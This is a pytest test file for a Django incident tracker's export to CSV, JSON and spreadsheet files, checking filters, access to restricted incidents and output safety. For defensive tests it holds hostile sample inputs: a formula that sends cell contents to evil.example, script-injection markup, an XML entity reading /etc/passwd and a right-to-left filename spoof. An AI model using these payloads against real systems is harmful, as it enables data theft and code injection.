"""Incidents as a file: which ones, which columns, and nothing that a spreadsheet would calculate."""

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils import timezone

from core.exporting import harmless
from core.models import RestrictedRead
from incidents import exporting, flows
from incidents.models import Incident
from knowledge.models import Tag, TagType
from tests import factories as make
from tests.apiclient import Api, at_fault

pytestmark = pytest.mark.django_db
FILE = "admin:incidents_incident_export_file"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

HOSTILE = [
    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>",
    "]]></t></c><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    'two\r\nlines, "quoted"; and\ttabs',
    "bell\x07 escape\x1b[31m end",
    "no character \ufffe\uffff",
    "right to left \u202egnp.exe",
]
# How a sheet writes what XML has no place for.
ESCAPED = re.compile(r"_x([0-9A-F]{4})_")


def unescaped(match):
    return chr(int(match[1], 16))


@pytest.fixture
def project():
    return make.make_project(name="Security")


@pytest.fixture
def responder(client, project):
    user = make.make_member(project, "responder")
    client.force_login(user)
    return user


def fetch(client, form="csv", columns=("name", "title"), **more):
    answer = client.get(reverse(FILE), {"format": form, "column": list(columns), **more})
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def table(client, **more):
    return list(csv.reader(io.StringIO(fetch(client, **more).decode("utf-8-sig"))))


def cells(data: bytes) -> list[list[str]]:
    """The sheet as text; a formula would stand in an `f`."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    assert not list(sheet.iter(f"{SHEET}f"))
    return [["".join(cell.itertext()) for cell in row.iter(f"{SHEET}c")] for row in sheet.iter(f"{SHEET}row")]


class TestWhich:
    def test_the_lists_filters_are_the_files(self, client, responder, project):
        make.declare(project, title="Active one")
        over = make.declare(project, title="Over")
        flows.change_status(incident=over, to="closed", actor=make.system(), now=timezone.now())

        assert [row[1] for row in table(client)] == ["Title", "Active one"]
        assert [row[1] for row in table(client, tab="closed")] == ["Title", "Over"]
        assert [row[1] for row in table(client, tab="all", q="over")] == ["Title", "Over"]

    def test_the_ticked_ones_alone(self, client, responder, project):
        one = make.declare(project, title="Ticked")
        make.declare(project, title="Not ticked")

        assert [row[1] for row in table(client, incident=[one.pk])] == ["Title", "Ticked"]

    def test_restricted_ones_only_for_those_who_may_see_them_and_noted_as_read(self, client, responder, project):
        secret = make.declare(project, title="Insider", visibility="restricted")
        assert [row[1] for row in table(client, tab="all")] == ["Title"]
        assert [row[1] for row in table(client, incident=[secret.pk])] == ["Title"]

        admin = make.make_member(project, "admin")
        client.force_login(admin)

        assert [row[1] for row in table(client, tab="all")] == ["Title", "Insider"]
        assert RestrictedRead.objects.filter(incident=secret, user=admin).exists()
        assert not RestrictedRead.objects.filter(user=responder).exists()

    def test_what_is_hidden_while_the_file_is_written_is_left_out(self, responder, project, monkeypatch):
        monkeypatch.setattr(exporting, "PART", 1)
        first, second = make.declare(project, title="First"), make.declare(project, title="Second")
        answer = exporting.respond(
            keys=[first.pk, second.pk], names=["title"], form="json", actor=make.actor_for(responder),
            now=timezone.now(),
        )  # fmt: skip
        stream = iter(answer.streaming_content)
        parts = [next(stream)]
        flows.edit(incident=second, visibility="restricted", actor=make.system(), now=timezone.now())

        assert json.loads(b"".join([*parts, *stream])) == [{"title": "First"}]

    def test_deleted_ones_never(self, client, project):
        client.force_login(make.make_member(project, "admin"))
        gone = make.declare(project, title="Gone")
        flows.delete_subject(subject=gone, actor=make.system(), now=timezone.now())

        assert table(client, tab="deleted") == [["Name", "Title"]]

    def test_the_page_counts_first_and_carries_the_filters_on(self, client, responder, project):
        make.declare(project, title="One")
        page = client.get(reverse("admin:incidents_incident_export") + "?tab=active&q=one")

        text = page.content.decode()
        assert page.context["count"] == 1
        assert '<input type="hidden" name="q" value="one">' in text

    def test_nothing_to_export_says_so(self, client, responder):
        assert "there is nothing to export" in client.get(reverse("admin:incidents_incident_export")).content.decode()

    def test_without_a_column_the_form_comes_back_and_says_so(self, client, responder, project):
        make.declare(project)

        answer = client.get(reverse(FILE), {"format": "xlsx", "tab": "all"})

        page = answer.content.decode()
        assert answer.status_code == 400
        assert 'role="alert"' in page
        assert re.search(r'value="xlsx" checked', page)
        assert not re.search(r'name="column"[^>]* checked', page)

    def test_too_many_are_refused_with_the_mend(self, client, responder, project, monkeypatch):
        monkeypatch.setattr(exporting, "MOST", 1)
        make.declare(project)
        make.declare(project)

        answer = client.get(reverse(FILE), {"format": "csv", "column": "name"})

        assert answer.status_code == 400
        assert "narrow the list first" in answer.content.decode()


class TestFormats:
    def test_csv_has_the_chosen_columns_in_their_order(self, client, responder, project):
        kind = TagType.objects.create(project=project, name="asset")
        tags = [Tag.objects.create(project=project, tag_type=kind, name=name) for name in ("laptop", "badge")]
        moment = datetime(2026, 3, 1, 9, 41, tzinfo=UTC)
        incident = make.declare(project, title="One", tags=tags, reported_at=moment)

        rows = table(client, columns=("title", "name", "tags", "commander", "reported_at", "closed_at"))

        assert rows == [
            ["Title", "Name", "Tags", "Commander", "Reported", "Closed"],
            ["One", incident.name, "badge, laptop", "commander@example.com", "2026-03-01 09:41:00Z", ""],
        ]

    def test_json_keeps_lists_numbers_and_nothing(self, client, responder, project):
        make.declare(project, title='Quote " and ünï', description="long")

        rows = json.loads(fetch(client, "json", ("title", "tags", "open_tasks", "closed_at", "description")))

        assert rows == [
            {"title": 'Quote " and ünï', "tags": [], "open_tasks": 0, "closed_at": None, "description": "long"}
        ]

    def test_an_empty_json_file_is_an_empty_list(self, client, responder):
        assert json.loads(fetch(client, "json")) == []

    def test_a_sheet_has_texts_and_numbers(self, client, responder, project):
        make.declare(project, title="One")

        assert cells(fetch(client, "xlsx", ("title", "open_tasks"))) == [["Title", "Open tasks"], ["One", "0"]]

    @pytest.mark.parametrize("title", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", " =1", "＝1"])
    def test_no_cell_is_a_formula(self, client, responder, project, title):
        make.declare(project)
        # An earlier version let any title pass.
        Incident.objects.update(title=title)

        assert table(client, columns=("title",))[1] == [f"'{title}"]
        assert cells(fetch(client, "xlsx", ("title",)))[1] == [title]
        assert json.loads(fetch(client, "json", ("title",))) == [{"title": title}]

    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_text_breaks_the_file_or_becomes_markup(self, client, responder, project, text):
        kind = TagType.objects.create(project=project, name="asset")
        tag = Tag.objects.create(project=project, tag_type=kind, name=text)
        make.declare(project, description=text, tags=[tag])
        Incident.objects.update(title=text)
        columns = ("title", "description", "tags")

        assert table(client, columns=columns)[1] == [text] * 3
        assert json.loads(fetch(client, "json", columns)) == [{"title": text, "description": text, "tags": [text]}]
        assert [ESCAPED.sub(unescaped, cell) for cell in cells(fetch(client, "xlsx", columns))[1]] == [text] * 3

    @pytest.mark.parametrize("text", ["", "plain", "a = b", "mail@example.com", "  "])
    def test_harmless_texts_stay_as_they_are(self, text):
        assert harmless(text) == text

    def test_a_text_too_long_for_a_cell_is_cut_and_not_lost(self, client, responder, project):
        make.declare(project, title="One", description="x" * 40_000)

        cell = cells(fetch(client, "xlsx", ("description",)))[1][0]

        assert len(cell) == 32_767
        assert cell.endswith("…")

    @pytest.mark.parametrize(
        "asked", [{"format": "pdf", "column": "name"}, {"format": "csv", "column": "password"}, {"format": "csv"}]
    )
    def test_what_there_is_not_is_refused(self, client, responder, asked):
        assert client.get(reverse(FILE), asked).status_code == 400

    def test_ten_and_fifty_rows_cost_the_same(self, client, responder, project, django_assert_max_num_queries):
        for _ in range(10):
            make.declare(project)
        columns = ("name", "tags", "commander", "cost", "open_tasks")
        with django_assert_max_num_queries(30) as few:
            fetch(client, columns=columns)
        for _ in range(40):
            make.declare(project)
        with django_assert_max_num_queries(30) as many:
            assert len(table(client, columns=columns)) == 51

        assert len(few) == len(many)


class TestApi:
    def test_it_takes_the_lists_filters_and_says_how_many(self, project):
        responder = make.make_member(project, "responder")
        make.declare(project, title="One", commander="nadia@example.com")
        make.declare(project, title="Two")
        make.declare(project, title="Insider", visibility="restricted")

        answer = Api(responder).get("/incidents/export/", commander="nadia@example.com", column="title")

        assert json.loads(b"".join(answer.streaming_content)) == [{"title": "One"}]
        assert answer["X-Total-Count"] == "1"
        assert "attachment" in answer["Content-Disposition"]

    def test_other_formats(self, project):
        responder = make.make_member(project, "responder")
        make.declare(project, title="One")

        answer = Api(responder).get("/incidents/export/", format="csv", column=["title", "status"])

        assert b"".join(answer.streaming_content).decode("utf-8-sig") == "Title,Status\r\nOne,active\r\n"
        assert answer["Content-Type"].startswith("text/csv")

    def test_it_takes_the_lists_ordering(self, project):
        for title in ("B", "A", "C"):
            make.declare(project, title=title)
        api = Api(make.make_member(project, "responder"))

        found = [
            [row["title"] for row in json.loads(b"".join(answer.streaming_content))]
            for answer in (api.get("/incidents/export/", column="title", **ordering) for ordering in (
                {}, {"ordering": "name"}, {"ordering": "-name"},
            ))
        ]  # fmt: skip

        assert found == [["C", "A", "B"], ["B", "A", "C"], ["C", "A", "B"]]

    @pytest.mark.parametrize(
        ("name", "value"),
        [("column", "secret"), ("format", "pdf"), ("color", "red"), ("fields", "id"), ("ordering", "secret")],
    )
    def test_a_strange_parameter_is_refused_by_name(self, project, name, value):
        refused = Api(make.make_member(project, "responder")).get("/incidents/export/", **{name: value})

        assert refused.status_code == 400
        assert at_fault(refused) == {name}
